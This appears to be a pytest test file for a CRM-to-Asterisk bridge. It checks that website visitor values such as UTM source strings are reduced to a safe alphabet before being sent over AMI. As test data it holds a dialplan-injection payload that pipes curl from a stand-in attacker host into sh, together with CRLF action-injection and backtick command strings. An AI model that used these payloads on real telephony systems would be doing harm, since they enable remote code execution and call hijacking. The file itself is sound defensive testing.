"""A visitor's text reaches Asterisk only in the safe alphabet (issue 17, item 11).

The review's visit (``utm_source=${SHELL(curl evil.example|sh)}``) is made with the
public endpoint, the visitor calls the number he was given on the sandbox PBX, and
``CRM_SOURCE`` read back from the live channel holds no ``$``, ``{``, ``}`` or ``|``.
Every action also passes one guard on its way to the wire.
"""

from __future__ import annotations

import asyncio
from pathlib import Path
from urllib.parse import urlencode

import aiohttp
import pytest

from pbx_bridge.actions import caller_id_name, click_to_call_action, spy_action
from pbx_bridge.ami_values import UnsafeActionError, ami_value, check_action
from telecrm.calltracking.live import setvar_action
from telecrm.settings import Settings
from telecrm.web.keys import LISTENER
from tests.calltracking.test_calltracking_e2e import (
    AGENT,
    POOL,
    channel_source,
    client_channel,
    configure,
)
from tests.support.browser import seed_world, serve_app

ATTACK = "${SHELL(curl evil.example|sh)}"


def test_one_alphabet_for_every_value_sent_to_asterisk() -> None:
    assert ami_value(ATTACK) == "SHELL curl evil.example sh"
    assert ami_value("Окна `id`; $[1+1] 'x' \"y\"\r\nAction: Originate") == (
        "Okna id 1+1 x y Action: Originate")
    assert ami_value("a" * 500) == "a" * 80
    assert caller_id_name("ООО «Ромашка» ${X}") == "OOO Romashka X"
    assert setvar_action("PJSIP/carrier-0001", f"Сайт: {ATTACK}")["Value"] == (
        "Sait: SHELL curl evil.example sh")
    assert check_action(click_to_call_action("101", "+79161234567", caller_name=ATTACK))
    for value in (ATTACK, "a|b", "x\r\nAction: Originate", "`id`", "a;b", "Ромашка"):
        with pytest.raises(UnsafeActionError):
            check_action({"Action": "Setvar", "Variable": "CRM_SOURCE", "Value": value})
        with pytest.raises(UnsafeActionError):  # a repeated header is checked line by line
            check_action({"Action": "Originate", "Variable": ["CRM_ORIGIN=spy", value]})
    # ChanSpy on a device-named channel sets two variables: each is a header of its own
    spy = spy_action("250", "PJSIP/102-yealink-00000012", "listen", device="PJSIP/ivanov")
    assert check_action(spy)["Variable"] == ["CRM_SPY=listen", "CRM_ORIGIN=spy"]


@pytest.mark.asterisk
async def test_the_reviewed_visit_reaches_the_pbx_without_expansions(
        sandbox, tmp_path: Path) -> None:
    pbx = sandbox.pbx
    db = f"sqlite+aiosqlite:///{tmp_path / 'crm.sqlite3'}"
    await seed_world(db, sandbox.monitor_dir)
    settings = Settings(data_dir=tmp_path, database_url=db, ami_host=pbx.ami_host,
                        ami_port=pbx.ami_port, ami_user=pbx.ami_user, ami_secret=pbx.ami_secret,
                        recordings_source=sandbox.monitor_dir)
    host = "okna.example"
    await configure(db, host)
    async with serve_app(settings, with_listener=True) as (app, crm), sandbox.phones() as phones:
        await asyncio.wait_for(app[LISTENER].session.connected.wait(), 15)
        landing = f"https://{host}/?" + urlencode({"utm_source": ATTACK, "utm_medium": "cpc"})
        async with aiohttp.ClientSession() as http, http.post(
                f"{crm}/api/ct/session", json={"site": host, "url": landing},
                headers={"User-Agent": AGENT}) as response:
            assert response.status == 200
            visit = await response.json()
        number = visit["number"]
        assert number in POOL and visit["tracked"] is True
        for ext in ("101", "102"):
            await phones.set_behaviour(ext, mode="answer", answer_after=4)
        await phones.client_calls("79161119900", number.lstrip("+"), talk=3)
        channel = await client_channel(db, number)
        want = "Sait: SHELL curl evil.example sh / cpc"
        source = await channel_source(app, channel, want)
        assert source == want
        assert not set("${}|;`") & set(source)
        await phones.wait_idle(timeout=40)
        await phones.reset_behaviours()
